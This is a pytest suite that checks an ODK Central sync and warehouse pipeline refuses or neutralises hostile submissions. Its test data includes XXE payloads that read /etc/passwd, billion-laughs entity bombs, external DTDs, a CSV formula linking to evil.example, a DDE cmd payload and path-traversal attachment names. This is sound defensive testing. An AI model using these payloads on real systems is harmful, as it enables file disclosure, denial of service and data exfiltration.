"""Hostile input, end to end: sent to the local Central as Collect sends it, then synced and normalised.

Each case is refused (by the server, or by odksync with a recorded reason) or neutralised (kept as
text that can do no harm), nothing crashes, and every valid submission sent around the hostile ones
is normalised. Attachments with names that could act as paths are never fetched, and nothing is
written outside the content store.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import secrets
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
import requests
from sqlalchemy import Engine, text
from sqlmodel import Session, col, select

from connectors.central.client import CentralClient
from connectors.central.config import CentralConfig
from orchestration.attachments import fetch_attachments
from orchestration.pipeline import deploy_forms, sync_central
from sandbox.central import CentralSandbox
from simulation.generator import SyntheticChild, generate_children, registration_xml
from simulation.submitter import published_version
from tests.conftest import _PG_URL, DEFAULT_TEST_DATABASE_URL, skip_or_fail
from tests.contract.central_contract import write_xlsform
from warehouse.content_store import ContentStore
from warehouse.db import ensure_schema, make_engine
from warehouse.models import Attachment, Submission, SubmissionVersion
from warehouse.normalise.driver import normalise_pending
from warehouse.normalised import ChildObservation, DataQualityFlag, NormalisedSubmission, Quarantine
from warehouse.privacy.spreadsheet import is_formula_like, write_csv

ADMIN = "admin@odksync.local"
REGISTRATION = "child_registration"
MEDIA_FORM = "hostile_media"
MAX_SUBMISSION = 64_000  # bytes of answers as JSON; the test's ODKSYNC_MAX_SUBMISSION_BYTES
MAX_ATTACHMENT = 32_000  # the test's ODKSYNC_MAX_ATTACHMENT_BYTES
PASSWD_MARKERS = ("root:", "/bin/", "daemon:")

# --- the cases ----------------------------------------------------------------------------------
# kind: how the submission is made; expect: what must come of it.
#   refused        the server answers 4xx with a message; nothing of it reaches the warehouse
#   unexpanded     accepted or refused; if accepted, no entity was expanded or resolved
#   quarantined    in the warehouse, quarantined with this reason code and a Thai message
#   normalised     normalised; `column` of its child observation equals `value`; `flag` raised
#   formula        normalised; its text written through the CSV writer has no formula cell
#   attachment     the attachment row has this state; refused ones are not in the store


@dataclass
class Case:
    id: str
    kind: str
    expect: str
    changes: dict[str, Any] = field(default_factory=dict)
    code: str | None = None
    column: str | None = None
    value: Any = None
    flag: str | None = None
    attachment: str | None = None
    content: bytes | None = None


DOCTYPE_CASES = {
    "xxe_local_file": b'<!DOCTYPE data [<!ENTITY hostile SYSTEM "file:///etc/passwd">]>',
    "xxe_network": b'<!DOCTYPE data [<!ENTITY hostile SYSTEM "http://127.0.0.1:9/secret">]>',
    "xxe_parameter_entity": b'<!DOCTYPE data [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;'
                            b'<!ENTITY hostile "x">]>',
    "external_dtd": b'<!DOCTYPE data SYSTEM "http://127.0.0.1:9/evil.dtd">',
    "billion_laughs": b"<!DOCTYPE data [<!ENTITY l0 \"lol\">" + b"".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">'.encode() for i in range(1, 10))
        + b'<!ENTITY hostile "&l9;">]>',
    "quadratic_blowup": b'<!DOCTYPE data [<!ENTITY big "' + b"A" * 50_000 + b'"><!ENTITY hostile "'
                        + b"&big;" * 2_000 + b'">]>',
}
ATTACHMENT_NAMES = {
    "attachment_traversal": "../../etc/passwd",
    "attachment_absolute_path": "/etc/passwd",
    "attachment_backslashes": "..\\..\\boot.ini",
    "attachment_parent_only": "..",
    "attachment_fullwidth_slashes": "..／..／evil.jpg",
    "attachment_rtl_override": "photo\u202egpj.exe",
    "attachment_division_slash": "a\u2215..\u2215b.jpg",
}
RTL = "\u202e"
ZWSP = "\u200b"

CASES: list[Case] = [
    *(Case(name, "doctype", "unexpanded") for name in DOCTYPE_CASES),
    Case("invalid_utf8_bytes", "raw", "refused"),
    Case("xml_control_character_reference", "raw", "refused"),
    Case("not_xml_at_all", "raw", "refused"),
    Case("unknown_form_id", "raw", "refused"),
    Case("duplicate_instance_id_other_content", "raw", "refused"),
    Case("c1_control_in_name", "registration", "quarantined", {"first_name": "สม\u0085ชาย"},
         code="control_characters"),
    Case("markup_in_name", "registration", "quarantined", {"last_name": "<script>alert(1)</script>"},
         code="markup"),
    Case("overlong_name", "registration", "quarantined", {"last_name": "ก" * 201}, code="too_long"),
    Case("oversized_submission", "registration", "quarantined", {"village_name": "ข" * 30_000},
         code="too_large"),
    Case("consent_by_sibling_under_10", "registration", "quarantined", {"consent_by": "SIBLING"},
         code="consent_age_rule"),
    Case("consent_by_child_alone_at_15", "registration", "quarantined", {"consent_by": "SELF"},
         code="consent_age_rule"),
    Case("consent_ok_without_child_assent", "raw", "quarantined", code="consent_age_rule"),
    Case("zero_width_in_first_name", "registration", "normalised", {"first_name": f"สม{ZWSP}ชาย"},
         column="first_name", value="สมชาย", flag="name_invisible_chars"),
    Case("rtl_override_in_last_name", "registration", "normalised", {"last_name": f"{RTL}ใจดี"},
         column="last_name", value="ใจดี", flag="name_invisible_chars"),
    Case("bidi_isolates_in_first_name", "registration", "normalised",
         {"first_name": "\u2066สมหญิง\u2069"}, column="first_name", value="สมหญิง",
         flag="name_invisible_chars"),
    Case("formula_equals_in_village", "registration", "formula",
         {"village_name": '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'}),
    Case("formula_plus_in_village", "registration", "formula", {"village_name": "+66812345678"}),
    Case("formula_minus_in_house_no", "registration", "formula", {"house_no": "-1+1"}),
    Case("formula_at_in_village", "registration", "formula", {"village_name": "@SUM(1+1)*cmd|' /C calc'!A0"}),
    *(Case(name, "attachment", "attachment", attachment=n, content=b"x" * 100, value="refused_name")
      for name, n in ATTACHMENT_NAMES.items()),
    Case("attachment_oversized", "attachment", "attachment", attachment="big.jpg",
         content=b"\xff" * (MAX_ATTACHMENT + 1), value="too_large"),
    Case("attachment_percent_encoded_name", "attachment", "attachment", attachment="%2e%2e%2fx.jpg",
         content=b"percent", value="present"),
]
VALID_NEIGHBOURS = 4  # valid registrations sent between the hostile ones: all must be normalised


@dataclass
class Sent:
    case: Case | None
    instance_id: str
    status: int
    body: str
    first_name: str | None = None


@dataclass
class Field:
    server: CentralSandbox
    config: CentralConfig
    project_id: int
    sent: dict[str, Sent]
    valid: list[Sent]
    valid_photo: Sent


def _children() -> dict[str, list[SyntheticChild]]:
    consenting = [c for c in generate_children(120, seed=9) if c.consent_ok and c.registration == 0]
    return {"under10": [c for c in consenting if c.consent_age < 10],
            "teen": [c for c in consenting if 10 <= c.consent_age < 20],
            "any": [c for c in consenting if 10 <= c.consent_age < 20 and c.guardian_relationship != "SELF"]}


@pytest.fixture(scope="module")
def field_work(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Field]:
    password = secrets.token_urlsafe(16)
    directory = tmp_path_factory.mktemp("hostile")
    with CentralSandbox(directory / "server", admin_email=ADMIN, admin_password=password) as server:
        config = CentralConfig(base_url=server.url, username=ADMIN, password=password)
        with CentralClient(config) as client:
            project_id = client.ensure_project("hostile")
        config = config.model_copy(update={"project_id": project_id})
        with CentralClient(config) as client:
            deploy_forms(client, project_id)
            client.deploy_form(write_xlsform(directory, MEDIA_FORM,
                                             extra_fields=(("image", "photo", "รูปถ่าย / Photo"),)))
            user = client.ensure_app_user("hostile collect")
            for form in (REGISTRATION, MEDIA_FORM):
                client.assign_form(form, user.id)
            version = published_version(client, REGISTRATION)
        yield _send_everything(server, config, project_id, str(user.token), version)


def _send_everything(server: CentralSandbox, config: CentralConfig, project_id: int, token: str,
                     version: str) -> Field:
    url = f"{server.url}/v1/key/{token}/projects/{project_id}/submission"
    pools = _children()
    pick = {k: iter(v) for k, v in pools.items()}

    def post(xml: bytes, files: dict[str, bytes] | None = None) -> tuple[int, str]:
        parts: list[tuple[str, tuple[str, bytes, str]]] = [
            ("xml_submission_file", ("submission.xml", xml, "text/xml"))]
        parts += [(name, (name, content, "image/jpeg")) for name, content in (files or {}).items()]
        response = requests.post(url, files=parts, headers={"X-OpenRosa-Version": "1.0"}, timeout=60)
        return response.status_code, response.text

    def registration(pool: str = "any", **changes: Any) -> tuple[str, bytes, SyntheticChild]:
        child = next(pick[pool]).model_copy(update=changes)
        instance_id = f"uuid:{uuid.uuid4()}"
        return instance_id, registration_xml(child, form_version=version, instance_id=instance_id), child

    sent: dict[str, Sent] = {}
    valid: list[Sent] = []

    def send_valid() -> None:
        instance_id, xml, child = registration()
        status, body = post(xml)
        assert status == 201, body
        valid.append(Sent(None, instance_id, status, body, child.first_name))

    for case in CASES:
        if len(valid) < VALID_NEIGHBOURS:
            send_valid()
        instance_id = f"uuid:{uuid.uuid4()}"
        if case.kind == "doctype":
            instance_id, xml, _ = registration(first_name="HOSTILEMARK")
            xml = xml.replace(b"?>", b"?>" + DOCTYPE_CASES[case.id], 1).replace(b"HOSTILEMARK", b"&hostile;")
            status, body = post(xml)
        elif case.kind == "registration":
            pool = "under10" if case.id.endswith("under_10") else "teen" if "at_15" in case.id else "any"
            instance_id, xml, _ = registration(pool, **case.changes)
            status, body = post(xml)
        elif case.kind == "attachment":
            xml = (f'<?xml version="1.0"?><data id="{MEDIA_FORM}" version="2026113001"><name>ภาพ</name>'
                   f"<age>9</age><photo>{escape(case.attachment or '')}</photo>"
                   f"<meta><instanceID>{instance_id}</instanceID></meta></data>").encode()
            status, body = post(xml, {case.attachment or "": case.content or b""})
        else:
            instance_id, status, body = _raw_case(case, post, registration)
        sent[case.id] = Sent(case, instance_id, status, body)
    photo = secrets.token_bytes(4096)
    photo_id = f"uuid:{uuid.uuid4()}"
    status, body = post((f'<?xml version="1.0"?><data id="{MEDIA_FORM}" version="2026113001"><name>ภาพ</name>'
                         f"<age>9</age><photo>ok.jpg</photo><meta><instanceID>{photo_id}</instanceID>"
                         "</meta></data>").encode(), {"ok.jpg": photo})
    assert status == 201, body
    return Field(server, config, project_id, sent, valid,
                 Sent(None, photo_id, status, hashlib.sha256(photo).hexdigest()))


def _raw_case(case: Case, post: Any, registration: Any) -> tuple[str, int, str]:
    """Submissions no well-behaved Collect would send: broken bytes, wrong ids, forged consent."""
    instance_id, xml, _ = registration(first_name="RAWMARK")
    if case.id == "invalid_utf8_bytes":
        xml = xml.replace(b"RAWMARK", b"\xff\xfe\xc3\x28")
    elif case.id == "xml_control_character_reference":
        xml = xml.replace(b"RAWMARK", b"a&#x1b;b")
    elif case.id == "not_xml_at_all":
        xml = b"first_name=somchai&national_id=1101700230708"
    elif case.id == "unknown_form_id":
        xml = xml.replace(f'id="{REGISTRATION}"'.encode(), b'id="no_such_form"', 1).replace(
            f"id='{REGISTRATION}'".encode(), b"id='no_such_form'", 1)
    elif case.id == "duplicate_instance_id_other_content":
        status, body = post(xml.replace(b"RAWMARK", b"ORIGINAL"))
        assert status == 201, body
        xml = xml.replace(b"RAWMARK", b"REPLACED")
    elif case.id == "consent_ok_without_child_assent":
        xml = xml.replace(b"<child_assent>1</child_assent>", b"<child_assent>0</child_assent>")
        assert b"<consent_ok>1</consent_ok>" in xml and b"<child_assent>0</child_assent>" in xml
    status, body = post(xml)
    return instance_id, status, body


# --- the warehouse after sync and normalise, once per database -------------------------------------


@dataclass
class Warehouse:
    engine: Engine
    store: ContentStore
    root: Path


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def warehouse(request: pytest.FixtureRequest, field_work: Field,
              tmp_path_factory: pytest.TempPathFactory) -> Iterator[Warehouse]:
    root = tmp_path_factory.mktemp(f"warehouse-{request.param}")
    admin = None
    schema = f"t_{uuid.uuid4().hex[:12]}"
    if request.param == "sqlite":
        engine = make_engine(f"sqlite:///{root / 'warehouse.sqlite3'}")
    else:
        if _PG_URL is None:
            skip_or_fail(f"PostgreSQL tests skipped: nothing answers at TEST_DATABASE_URL "
                         f"(default {DEFAULT_TEST_DATABASE_URL})")
        admin = make_engine(str(_PG_URL))
        with admin.begin() as connection:
            connection.execute(text(f'CREATE SCHEMA "{schema}"'))
        joiner = "&" if "?" in str(_PG_URL) else "?"
        engine = make_engine(f"{_PG_URL}{joiner}options=-csearch_path%3D{schema}")
    try:
        ensure_schema(engine)
        store = ContentStore(root / "attachments", max_file_bytes=MAX_ATTACHMENT)
        with CentralClient(field_work.config) as client:
            sync_central(client, field_work.project_id, engine, form_ids=[REGISTRATION, MEDIA_FORM],
                         attachments=store)
            again = fetch_attachments(client, field_work.project_id, engine, store, form_id=MEDIA_FORM)
        assert again.downloaded == 0  # refused files are remembered, not fetched again
        with Session(engine) as session:
            normalise_pending(session, max_payload_bytes=MAX_SUBMISSION)
        yield Warehouse(engine, store, root)
    finally:
        engine.dispose()
        if admin is not None:
            with admin.begin() as connection:
                connection.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
            admin.dispose()


def _state(engine: Engine, instance_id: str) -> NormalisedSubmission | None:
    with Session(engine) as session:
        return session.exec(select(NormalisedSubmission).where(
            col(NormalisedSubmission.submission_id) == instance_id)).first()


def _payload(engine: Engine, instance_id: str) -> str | None:
    with Session(engine) as session:
        version = session.exec(select(SubmissionVersion).where(
            col(SubmissionVersion.submission_id) == instance_id)).first()
        return None if version is None else json.dumps(version.payload, ensure_ascii=False)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_each_hostile_input_is_refused_or_neutralised(case: Case, field_work: Field,
                                                      warehouse: Warehouse) -> None:
    sent = field_work.sent[case.id]
    assert sent.status < 500, f"{case.id}: the server failed instead of refusing: {sent.body[:300]}"
    engine = warehouse.engine
    state = _state(engine, sent.instance_id)
    if case.expect == "refused":
        assert 400 <= sent.status < 500 and "message" in sent.body.lower(), sent.body[:300]
        if case.id == "duplicate_instance_id_other_content":
            payload = _payload(engine, sent.instance_id) or ""
            assert "ORIGINAL" in payload and "REPLACED" not in payload  # the first one is kept
        else:
            assert state is None and _payload(engine, sent.instance_id) is None
    elif case.expect == "unexpanded":
        if sent.status >= 400:
            assert state is None
            return
        payload = _payload(engine, sent.instance_id) or ""
        assert not any(marker in payload for marker in PASSWD_MARKERS), "an external entity was resolved"
        assert "lollollol" not in payload and "AAAAAAAAAA" not in payload, "an entity was expanded"
        assert len(payload) < 20_000
        assert state is not None and state.state in ("normalised", "quarantined")
    elif case.expect == "quarantined":
        assert sent.status == 201, sent.body[:300]
        assert state is not None and state.state == "quarantined", case.id
        with Session(engine) as session:
            quarantine = session.exec(select(Quarantine).where(
                col(Quarantine.submission_id) == sent.instance_id)).one()
        assert quarantine.reason == case.code
        assert quarantine.message.startswith("แบบฟอร์ม") and "วิธีแก้" in quarantine.message
        assert _payload(engine, sent.instance_id) is not None  # refused to read, never lost
    elif case.expect in ("normalised", "formula"):
        assert state is not None and state.state == "normalised", case.id
        with Session(engine) as session:
            child = session.exec(select(ChildObservation).where(
                col(ChildObservation.submission_id) == sent.instance_id)).one()
            flags = {f.code for f in session.exec(select(DataQualityFlag).where(
                col(DataQualityFlag.submission_id) == sent.instance_id))}
        if case.expect == "normalised":
            assert getattr(child, case.column or "") == case.value
            assert case.flag in flags
        else:
            _assert_formula_safe(child, case)
    else:
        _assert_attachment(case, sent, warehouse)


def _assert_formula_safe(child: ChildObservation, case: Case) -> None:
    values = child.model_dump()
    typed = next(iter(case.changes.values()))
    assert typed.strip() in {str(v) for v in values.values() if v is not None}  # kept as typed
    out = io.StringIO()
    write_csv(out, list(values), [list(values.values())])
    for row in csv.reader(io.StringIO(out.getvalue())):
        for cell in row:
            assert not is_formula_like(cell), cell


def _assert_attachment(case: Case, sent: Sent, warehouse: Warehouse) -> None:
    assert sent.status == 201, sent.body[:300]
    with Session(warehouse.engine) as session:
        (row,) = session.exec(select(Attachment).where(col(Attachment.submission_id) == sent.instance_id))
    assert row.state == case.value
    if case.value == "present":
        assert row.sha256 is not None and warehouse.store.verify(row.sha256)
    else:
        assert row.sha256 is None
        digest = hashlib.sha256(case.content or b"").hexdigest()
        assert not warehouse.store.has(digest)


def test_nothing_valid_around_the_hostile_input_is_lost(field_work: Field, warehouse: Warehouse) -> None:
    engine = warehouse.engine
    with Session(engine) as session:
        names = {c.submission_id: c.first_name for c in session.exec(select(ChildObservation))}
        photo = session.exec(select(Attachment).where(
            col(Attachment.submission_id) == field_work.valid_photo.instance_id)).one()
        held = set(session.exec(select(Submission.submission_id)).all())
    for sent in field_work.valid:
        state = _state(engine, sent.instance_id)
        assert state is not None and state.state == "normalised"
        assert names[sent.instance_id] == sent.first_name
    assert photo.state == "present" and photo.sha256 == field_work.valid_photo.body
    accepted = {s.instance_id for s in field_work.sent.values() if s.status == 201}
    assert accepted <= held  # every submission the server took is in the warehouse


def test_nothing_is_written_outside_the_content_store(field_work: Field, warehouse: Warehouse) -> None:
    store_root = warehouse.store.root
    files = [p for p in warehouse.root.rglob("*") if p.is_file()]
    stored = [p for p in files if store_root in p.parents]
    assert all(p.parent == warehouse.store.incoming or len(p.name) == 64 for p in stored)
    assert not [p for p in stored if p.parent == warehouse.store.incoming]  # no scratch left behind
    outside = {p.name for p in files if store_root not in p.parents}
    # Only the SQLite warehouse and the locks that keep two runs apart live beside the store.
    assert all(name.startswith("warehouse.sqlite3") or name.endswith(".lock") for name in outside), outside
    assert not {"passwd", "boot.ini", "evil.jpg", "b.jpg"} & {p.name for p in files}


# --- XML the client itself reads (a published form from a server, an edit's XML) ------------------

CLIENT_XML = {
    "client_xxe_local_file": b'<?xml version="1.0"?><!DOCTYPE h [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                             b"<h>&x;</h>",
    "client_billion_laughs": b"<!DOCTYPE h [<!ENTITY a \"aaaaaaaaaa\">" + b"".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(9))
        + b"]><h>&j;</h>",
    "client_external_dtd": b'<!DOCTYPE h SYSTEM "http://127.0.0.1:9/evil.dtd"><h/>',
    "client_parameter_entity": b'<!DOCTYPE h [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><h/>',
    "client_lowercase_doctype": b'<!doctype h [<!entity x SYSTEM "file:///etc/passwd">]><h>&x;</h>',
    "client_oversized": b"<h>" + b"x" * 200_000 + b"</h>",
}


@pytest.mark.parametrize("name", CLIENT_XML)
def test_the_client_parser_refuses_entities_dtds_and_oversize(name: str) -> None:
    from connectors.safe_xml import UnsafeXMLError, parse_xml

    with pytest.raises(UnsafeXMLError) as caught:
        parse_xml(CLIENT_XML[name], what="a published form", max_bytes=100_000)
    assert "a published form" in str(caught.value) and "root:" not in str(caught.value)
    assert parse_xml(b"<h><b>ok</b></h>").findtext("b") == "ok"  # ordinary XML still reads


def test_a_hostile_published_form_counts_as_changed_without_being_read(tmp_path: Path) -> None:
    from connectors.central.deploy import definition_changed, read_local_form

    local = read_local_form(write_xlsform(tmp_path, "plain"), form_id=None, attachments=None)
    hostile = local.xform.replace(b"?>", b'?><!DOCTYPE h [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
    assert definition_changed(local, hostile, None) is True  # redeployed, never parsed
    assert definition_changed(local, local.xform, None) is False


# --- text that is not valid Unicode in a server's JSON ----------------------------------------------

BROKEN_JSON = ('{"count": 1, "next": null, "results": [{"_id": 1, "child/first_name": "สม\\udcffชาย", '
               '"emoji": "\\ud83d\\ude00"}]}').encode()


@pytest.fixture
def broken_json_server() -> Iterator[str]:
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(BROKEN_JSON)))
            self.end_headers()
            self.wfile.write(BROKEN_JSON)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_a_lone_surrogate_from_a_server_is_made_visible_not_a_crash(broken_json_server: str) -> None:
    from pydantic import SecretStr

    from connectors.kobo.config import KoboConfig
    from connectors.kobo.session import KoboSession

    with KoboSession(KoboConfig(base_url=broken_json_server, token=SecretStr("t"))) as session:
        (row,) = list(session.results(session.url("api/v2/assets/x/data/")))
    assert row["child/first_name"] == "สม\ufffdชาย"
    assert row["emoji"] == "\U0001f600"  # a proper pair is kept as the character it encodes
    row["child/first_name"].encode("utf-8")  # now storable anywhere


def test_text_that_was_not_valid_unicode_is_kept_raw_and_quarantined(engine: Engine) -> None:
    from connectors.text_safety import scrub_lone_surrogates
    from tests.warehouse.normalise_support import raw, sample, store

    data = scrub_lone_surrogates({**sample(REGISTRATION, "uuid:broken"),
                                  "child": {**sample(REGISTRATION)["child"], "first_name": "สม\udcffชาย"}})
    with Session(engine) as session:
        store(session, REGISTRATION, [raw(REGISTRATION, "uuid:broken", data),
                                      raw(REGISTRATION, "uuid:fine", sample(REGISTRATION, "uuid:fine"))])
        normalise_pending(session)
        quarantine = session.exec(select(Quarantine)).one()
        states = {s.submission_id: s.state for s in session.exec(select(NormalisedSubmission))}
    assert quarantine.submission_id == "uuid:broken" and quarantine.reason == "invalid_unicode"
    assert "UTF-8" in quarantine.message and quarantine.field == "child/first_name"
    assert states == {"uuid:broken": "quarantined", "uuid:fine": "normalised"}


# --- attachment names, one by one (the store never uses them as paths; these are not even fetched) --

@pytest.mark.parametrize("name", [
    "../x.jpg", "a/../../b.jpg", "/abs.jpg", "C:evil.jpg", "c:\\windows\\x.jpg", "..", ".", " . ",
    "a\x00.jpg", "a\nb.jpg", "photo\u202egpj.exe", "ph\u200boto.jpg", "a\u2066b\u2069.jpg",
    "..／x.jpg", "a\u2215b.jpg", "a\u2044b.jpg", "\ufeffphoto.jpg", "x" * 256, "", "bad\udcff.jpg",
])
def test_attachment_names_that_could_act_as_paths_or_hide_text_are_refused(name: str) -> None:
    from warehouse.content_store import attachment_name_problem, storable_name

    assert attachment_name_problem(name)
    shown = storable_name(name)
    shown.encode("utf-8")  # storable in any database
    assert len(shown) <= 255 and "\x00" not in shown


@pytest.mark.parametrize("name", ["photo.jpg", "1733212345678.jpg", "ภาพถ่าย.jpg", "scan (1).pdf",
                                  "a..b.jpg", "%2e%2e%2fx.jpg", "consent-form_v2.png"])
def test_ordinary_attachment_names_are_kept(name: str) -> None:
    from warehouse.content_store import attachment_name_problem, storable_name

    assert attachment_name_problem(name) is None and storable_name(name) == name
